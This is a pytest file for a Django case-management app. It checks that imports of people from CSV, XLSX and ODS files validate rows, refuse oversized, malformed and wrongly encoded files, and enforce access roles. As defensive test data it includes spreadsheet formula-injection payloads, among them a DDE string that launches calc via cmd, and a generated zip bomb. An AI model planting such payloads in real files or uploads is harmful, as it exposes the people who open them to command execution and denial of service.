"""Import of a caseload (issue 14, item 2; docs/decisions/0051-import.md): a 1,000-row file with 20 planted
errors, its dry run, its import of the valid rows, its second import, the XLSX and ODS variants, and the
files refused whole (size, zip bomb, encoding, malformed)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from parcours.audit.models import AccessLog
from parcours.pathway.models import Exit, Pathway, Period
from parcours.people.models import Person
from parcours.portability.models import ImportJob

from ..factories import PersonFactory

HEADER = ["reference_externe", "prenom", "nom", "date_naissance", "genre", "nationalite", "departement",
          "telephone", "enfants_a_charge", "debut_parcours", "renouvellements", "date_sortie",
          "motif_sortie"]  # fmt: skip
LETTERS = "ABCDEFGHIJKLM"
FORMULA = ("Formule refusée : la cellule commence par « = », « + », « - » ou « @ ». Saisissez la valeur "
           "elle-même (aucune formule n'est jamais calculée).")  # fmt: skip
REQUIRED = "Champ obligatoire vide."
DATE = "Date au mauvais format : attendu JJ/MM/AAAA (par exemple 05/03/1990)."
NATIONALITY = ("Nationalité inconnue : indiquez le code ISO à 2 lettres (NG, RO, CN…) ou le nom du pays en "
               "français.")  # fmt: skip

# The 20 planted errors: line of the file (the header is line 1) → (column changed, value, expected message).
PLANTED = {
    11: ("date_naissance", "12.03.1990", DATE),
    21: ("date_naissance", "1990/03/12", DATE),
    31: ("nationalite", "Atlantide", NATIONALITY),
    41: ("nationalite", "XX", NATIONALITY),
    51: ("departement", "99", "Département inconnu : indiquez son code (30, 13, 2A, 971…)."),
    61: ("departement", "13", "L'association n'intervient pas dans ce département."),
    71: ("nom", None, "Doublon : l'association suit déjà une personne née le même jour sous un nom proche."),
    81: ("nom", None, "Doublon : même personne qu'à la ligne 80 du fichier."),
    91: ("reference_externe", "DOS-00088", "Référence déjà utilisée à la ligne 90 du fichier."),
    101: ("renouvellements", "4",
          "4 renouvellement(s) donnent 30 mois de parcours : au-delà du plafond de 24 mois."),
    111: ("prenom", "", REQUIRED),
    121: ("nom", "", REQUIRED),
    131: ("departement", "", REQUIRED),
    141: ("nom", '=HYPERLINK("http://exemple.invalid/?q="&A1;"Voir")', FORMULA),
    151: ("prenom", "@SUM(1+1)", FORMULA),
    161: ("telephone", "-2+3+cmd|' /C calc'!A0", FORMULA),
    171: ("genre", "chat",
          "Genre inconnu : femme, homme, femme trans, homme trans, non binaire ou non précisé."),
    181: ("enfants_a_charge", "deux", "Nombre entier attendu."),
    191: ("debut_parcours", "2015-01-01", "Le parcours de sortie n'existe que depuis le 30 octobre 2016."),
    201: ("date_sortie", "01/01/2025", "La date de sortie précède le début du parcours."),
}  # fmt: skip
EXISTING = ("Joséphine", "Existante", dt.date(1988, 4, 12))


def _letters(n: int) -> str:
    """A name made of letters only, different for each n (names are compared without digits)."""
    out = ""
    for _ in range(3):
        n, r = divmod(n, 26)
        out += "abcdefghijklmnopqrstuvwxyz"[r]
    return out


def person_row(line: int) -> dict:
    i = line - 2
    row = {
        "reference_externe": f"DOS-{i:05d}",
        "prenom": "Prénom" + _letters(i).capitalize(),
        "nom": "Fictive" + _letters(i * 7 + 3),
        "date_naissance": (dt.date(1960, 1, 1) + dt.timedelta(days=11 * i)).strftime("%d/%m/%Y"),
        "genre": ["femme", "homme", "femme trans", "non binaire", ""][i % 5],
        "nationalite": ["NG", "Roumanie", "cn", "FR", ""][i % 5],
        "departement": "30",
        "telephone": ["06 12 34 56 78", "+33 6 12 34 56 78", ""][i % 3],
        "enfants_a_charge": str(i % 4),
        "debut_parcours": "", "renouvellements": "", "date_sortie": "", "motif_sortie": "",
    }  # fmt: skip
    if i % 10 == 0:  # a pathway started on 1 March 2025, renewed once
        row.update(debut_parcours="01/03/2025", renouvellements="1")
    if i % 50 == 0:  # ... and left on 1 January 2026
        row.update(date_sortie="01/01/2026", motif_sortie="achevé")
    return row


def rows_with_planted_errors(count: int = 1000) -> list[dict]:
    rows = {line: person_row(line) for line in range(2, count + 2)}
    for line, (column, value, _message) in PLANTED.items():
        if line not in rows:
            continue
        if line == 71:
            rows[line].update(
                prenom=EXISTING[0], nom=EXISTING[1], date_naissance=EXISTING[2].strftime("%d/%m/%Y")
            )
        elif line == 81:
            rows[line].update(prenom=rows[80]["prenom"], nom=rows[80]["nom"],
                              date_naissance=rows[80]["date_naissance"])  # fmt: skip
        else:
            rows[line][column] = value
        if line in (101, 201):  # the planted error is in the pathway's history
            rows[line].update(
                debut_parcours="01/03/2025", renouvellements=rows[line]["renouvellements"] or "1"
            )
            if line == 101:
                rows[line]["renouvellements"] = "4"
            else:
                rows[line]["motif_sortie"] = "retrait"
    return [rows[line] for line in sorted(rows)]


def csv_bytes(rows: list[dict], *, bom=True, delimiter=";", encoding="utf-8") -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(HEADER)
    for row in rows:
        writer.writerow([row[c] for c in HEADER])
    return ("\ufeff" if bom else "").encode("utf-8") + buffer.getvalue().encode(encoding)


EXPECTED_REPORT = sorted(
    [line, LETTERS[HEADER.index(column)], column, message] for line, (column, _v, message) in PLANTED.items()
)


def upload(client, name: str, content: bytes):
    return client.post("/reprise-et-export/", {"file": SimpleUploadedFile(name, content)})


def last_job() -> ImportJob:
    return ImportJob.objects.order_by("-pk").first()


def confirm(client, job, **data):
    return client.post(f"/reprise-et-export/imports/{job.pk}/", data)


def events(name: str) -> int:
    return AccessLog.objects.filter(event=name).count()


@pytest.fixture
def head(client, personas):
    PersonFactory(association=personas.association, first_name=EXISTING[0], last_name=EXISTING[1],
                  birth_date=EXISTING[2])  # fmt: skip
    client.force_login(personas.head.user)
    return personas.head


@pytest.mark.django_db
def test_a_thousand_rows_with_twenty_planted_errors(client, head):
    content = csv_bytes(rows_with_planted_errors())
    people_before = Person.objects.count()
    assert people_before == 1

    # The dry run: 20 precise messages, nothing written.
    reply = upload(client, "file-active.csv", content)
    job = last_job()
    assert reply.status_code == 302 and reply["Location"] == f"/reprise-et-export/imports/{job.pk}/"
    assert sorted(job.report) == EXPECTED_REPORT
    assert job.status == "checked" and job.rows_total == 1000 and job.rows_valid == 980
    assert Person.objects.count() == 1 and Pathway.objects.count() == 0
    assert events("person.create") == 0 and events("data_import.check") == 1
    page = client.get(f"/reprise-et-export/imports/{job.pk}/").content.decode()
    assert "20 erreurs" in page and "Importer 980 personnes" in page
    assert "<td>141</td><td>C (nom)</td>" in page

    # Without the explicit choice, nothing is imported.
    reply = confirm(client, job, confirm="on")
    assert "Des lignes sont refusées : corrigez le fichier, ou choisissez d&#x27;importer seulement" in (
        reply.content.decode()
    )
    reply = confirm(client, job, valid_only="on")
    assert "Cochez la confirmation pour lancer l&#x27;import." in reply.content.decode()
    assert Person.objects.count() == 1

    # Import of the valid rows: 980 people, through the services (journal, pathways).
    reply = confirm(client, job, valid_only="on", confirm="on")
    assert reply.status_code == 302
    job.refresh_from_db()
    assert job.status == "done" and job.rows_created == 980 and job.storage_name == ""
    assert Person.objects.count() == 981
    assert events("person.create") == 980 and events("data_import.run") == 1
    # Every tenth row has a pathway from 1 March 2025 renewed once: lines 2, 12, …, 992 → 100 rows, none
    # of them planted (the refused histories of lines 101 and 201 are not recorded).
    assert Pathway.objects.count() == 100 and events("pathway.import") == 100
    assert Period.objects.count() == 200
    assert set(Period.objects.values_list("number", "start", "months")) == {
        (1, dt.date(2025, 3, 1), 6), (2, dt.date(2025, 9, 1), 6)}  # fmt: skip
    # Every 50th row also left on 1 January 2026 (lines 2, 52, …, 952: 20 rows, none refused).
    assert Exit.objects.filter(date=dt.date(2026, 1, 1), reason="completed").count() == 20
    imported = next(p for p in Person.objects.all() if p.first_name == "PrénomCaa")  # line 4
    assert (imported.last_name, imported.birth_date, imported.gender, imported.nationality.code) == (
        "Fictiveraa",
        dt.date(1960, 1, 23),
        "trans_woman",
        "CN",
    )
    assert imported.referent_id == head.user_id and imported.dependent_children == 2
    # The names are encrypted at rest.
    from django.db import connection

    with connection.cursor() as cursor:
        cursor.execute("SELECT first_name FROM people_person WHERE id = %s", [imported.pk])
        assert "PrénomCaa" not in cursor.fetchone()[0]

    # The same file a second time adds nothing.
    upload(client, "file-active.csv", content)
    again = last_job()
    assert again.status == "checked" and again.rows_known == 980 and again.rows_valid == 0
    page = client.get(f"/reprise-et-export/imports/{again.pk}/").content.decode()
    assert "Ce fichier a déjà été importé le 1er juin 2026" in page
    confirm(client, again, valid_only="on", confirm="on")
    again.refresh_from_db()
    assert again.status == "done" and again.rows_created == 0
    assert Person.objects.count() == 981 and Pathway.objects.count() == 100
    assert events("person.create") == 980


@pytest.mark.django_db
def test_a_valid_file_is_imported_whole_without_the_choice(client, head):
    rows = [person_row(line) for line in range(2, 12)]
    upload(client, "propre.csv", csv_bytes(rows, bom=False, delimiter=","))
    job = last_job()
    assert job.status == "checked" and job.report == [] and job.rows_valid == 10
    confirm(client, job, confirm="on")
    job.refresh_from_db()
    assert job.status == "done" and Person.objects.count() == 11


def _xlsx(rows: list[dict], formula_at: tuple[int, str] | None = None) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    for row in rows:
        values = [row[c] for c in HEADER]
        values[3] = dt.datetime.strptime(values[3], "%d/%m/%Y")  # noqa: DTZ007  # a date cell, not text
        sheet.append(values)
    if formula_at:
        line, column = formula_at
        sheet.cell(
            row=line, column=HEADER.index(column) + 1
        ).value = '=HYPERLINK("http://exemple.invalid","x")'
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.django_db
def test_xlsx_with_a_real_formula_cell(client, head):
    rows = [person_row(line) for line in range(2, 32)]
    rows[4]["nationalite"] = "Wakanda"  # line 6
    upload(client, "file.xlsx", _xlsx(rows, formula_at=(9, "prenom")))
    job = last_job()
    assert job.status == "checked", job.error
    assert sorted(job.report) == [[6, "F", "nationalite", NATIONALITY], [9, "B", "prenom", FORMULA]]
    confirm(client, job, valid_only="on", confirm="on")
    assert Person.objects.count() == 1 + 28
    assert [p.birth_date for p in Person.objects.all()].count(dt.date(1960, 1, 1)) == 1  # line 2, a date cell


def _ods(rows: list[dict], formula_at: int) -> bytes:
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    document = OpenDocumentSpreadsheet()
    table = Table(name="Personnes")
    for n, values in enumerate([HEADER] + [[r[c] for c in HEADER] for r in rows], start=1):
        tr = TableRow()
        for k, value in enumerate(values):
            if n == formula_at and k == 2:
                cell = TableCell(valuetype="float", value="2", formula="of:=1+1")
            elif n > 1 and k == 3:
                day = dt.datetime.strptime(value, "%d/%m/%Y").date()  # noqa: DTZ007
                cell = TableCell(valuetype="date", datevalue=day.isoformat())
            else:
                cell = TableCell(valuetype="string")
                cell.addElement(P(text=value))
            tr.addElement(cell)
        table.addElement(tr)
    document.spreadsheet.addElement(table)
    buffer = io.BytesIO()
    document.write(buffer)
    return buffer.getvalue()


@pytest.mark.django_db
def test_ods_with_a_formula_and_a_cap_error(client, head):
    rows = [person_row(line) for line in range(2, 22)]
    rows[10].update(debut_parcours="01/03/2023", renouvellements="5")  # line 12
    upload(client, "file.ods", _ods(rows, formula_at=5))
    job = last_job()
    assert job.status == "checked", job.error
    assert sorted(job.report) == [
        [5, "C", "nom", FORMULA],
        [12, "K", "renouvellements",
         "5 renouvellement(s) donnent 36 mois de parcours : au-delà du plafond de 24 mois."],
    ]  # fmt: skip
    confirm(client, job, valid_only="on", confirm="on")
    assert Person.objects.count() == 1 + 18


def _refused(client, name, content) -> str:
    upload(client, name, content)
    job = last_job()
    assert job.status == "failed" and job.storage_name == ""
    assert Person.objects.count() == 1
    page = client.get(f"/reprise-et-export/imports/{job.pk}/").content.decode()
    assert "Fichier refusé" in page
    return job.error


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.django_db
def test_a_zip_bomb_is_refused_before_parsing(client, head, settings):
    settings.PARCOURS_IMPORT_MAX_UNCOMPRESSED_BYTES = 2 * 1024 * 1024
    bomb = _zip({"[Content_Types].xml": b"<x/>", "xl/worksheets/sheet1.xml": b"\0" * (5 * 1024 * 1024)})
    assert len(bomb) < 20_000
    assert _refused(client, "bombe.xlsx", bomb) == (
        "Une fois décompressé, le classeur ferait 5 Mo, au-delà de la limite de 2 Mo : il est refusé "
        "(archive anormalement compressée)."
    )
    many = _zip({f"content{n}.xml": b"<x/>" for n in range(300)})
    assert _refused(client, "nombreux.ods", many) == (
        "Le classeur contient 300 éléments, bien plus qu'un tableau ordinaire : il est refusé par précaution."
    )


@pytest.mark.django_db
def test_an_oversized_file_is_refused_at_upload(client, head, settings):
    settings.PARCOURS_IMPORT_MAX_BYTES = 2048
    content = csv_bytes([person_row(line) for line in range(2, 40)])
    assert len(content) > 2048
    reply = upload(client, "gros.csv", content)
    assert reply.status_code == 200
    assert "au-delà de la limite de 2 ko : découpez-le en plusieurs fichiers." in reply.content.decode()
    assert ImportJob.objects.count() == 0 and Person.objects.count() == 1


@pytest.mark.django_db
def test_malformed_files_are_refused(client, head):
    assert _refused(client, "faux.xlsx", b"ceci n'est pas un classeur") == (
        "Le fichier est illisible : ce n'est pas un classeur XLSX ou ODS valide."
    )
    assert _refused(client, "faux.ods", _zip({"content.xml": b"<pas du tout"})) == (
        "Le fichier est illisible : ce n'est pas un classeur ODS valide."
    )
    reply = upload(client, "liste.pdf", b"%PDF-1.4")
    assert "Format non pris en charge : déposez un fichier CSV, XLSX ou ODS." in reply.content.decode()
    assert _refused(client, "colonnes.csv", b"prenom;nom;ville\nA;B;C\n") == (
        "Colonne C : « ville » n'est pas une colonne du modèle. Les colonnes attendues sont : "
        "reference_externe, prenom, nom, date_naissance, genre, nationalite, departement, telephone, "
        "enfants_a_charge, debut_parcours, renouvellements, date_sortie, motif_sortie."
    )


@pytest.mark.django_db
def test_encodings(client, head):
    rows = [person_row(line) for line in range(2, 6)]
    rows[0]["prenom"] = "Hélène"
    assert _refused(client, "ansi.csv", csv_bytes(rows, bom=False, encoding="cp1252")) == (
        "Le fichier semble encodé en Windows-1252 (ANSI), pas en UTF-8 : les accents seraient mal lus. "
        "Enregistrez-le au format « CSV UTF-8 » et déposez-le à nouveau."
    )
    for bom in (True, False):
        upload(client, "utf8.csv", csv_bytes(rows, bom=bom))
        job = last_job()
        assert job.status == "checked" and job.report == [] and job.rows_valid == 4
    confirm(client, job, confirm="on")
    assert [p.first_name for p in Person.objects.all()].count("Hélène") == 1


@pytest.mark.django_db
def test_the_template_has_the_columns_and_its_notes(client, head):
    from openpyxl import load_workbook

    reply = client.get("/reprise-et-export/modele/?format=xlsx")
    assert reply.status_code == 200
    workbook = load_workbook(io.BytesIO(reply.content))
    assert workbook.sheetnames == ["Personnes", "Définitions des colonnes"]
    assert [c.value for c in workbook["Personnes"][1]] == HEADER
    notes = {
        row[0]: row
        for row in workbook["Définitions des colonnes"].iter_rows(values_only=True)
        if row and row[0]
    }
    assert notes["renouvellements"][2:4] == (
        "non",
        "0 à 3 : chaque période dure 6 mois, dans la limite de 24 mois.",
    )
    assert notes["reference_externe"][2] == "oui"
    assert client.get("/reprise-et-export/modele/?format=csv").content.decode(
        "utf-8-sig"
    ).strip() == ";".join(HEADER)
    assert client.get("/reprise-et-export/modele/?format=ods").status_code == 200
    assert client.get("/reprise-et-export/modele/?format=pdf").status_code == 404


@pytest.mark.django_db
def test_only_the_head_of_service_of_the_association(client, personas):
    client.force_login(personas.head.user)
    upload(client, "propre.csv", csv_bytes([person_row(2)]))
    job = last_job()
    for membership in (personas.worker, personas.volunteer, personas.secretariat, personas.national):
        client.force_login(membership.user)
        assert client.get("/reprise-et-export/").status_code == 403
        assert client.post(f"/reprise-et-export/imports/{job.pk}/", {"confirm": "on"}).status_code in (
            403,
            404,
        )
    from ..factories import MembershipFactory

    other_head = MembershipFactory(organisation=personas.other_association, role="head_of_service")
    client.force_login(other_head.user)
    assert client.get(f"/reprise-et-export/imports/{job.pk}/").status_code == 404
    assert client.post(f"/reprise-et-export/imports/{job.pk}/", {"confirm": "on"}).status_code == 404
    job.refresh_from_db()
    assert job.status == "checked" and Person.objects.count() == 0


@pytest.mark.django_db
def test_a_running_import_shows_its_progress_and_refreshes(client, head):
    job = ImportJob.objects.create(
        association=head.organisation, membership=head, filename="gros.csv", fmt="csv", file_hash="0" * 64,
        status="importing", rows_total=1000, rows_done=250,
    )  # fmt: skip
    page = client.get(f"/reprise-et-export/imports/{job.pk}/").content.decode()
    assert '<meta http-equiv="refresh" content="3">' in page
    assert "250 lignes traitées sur 1000" in page
    assert '<progress id="progress" max="1000" value="250">25 %</progress>' in page
    job.status = "done"
    job.save()
    assert "http-equiv" not in client.get(f"/reprise-et-export/imports/{job.pk}/").content.decode()
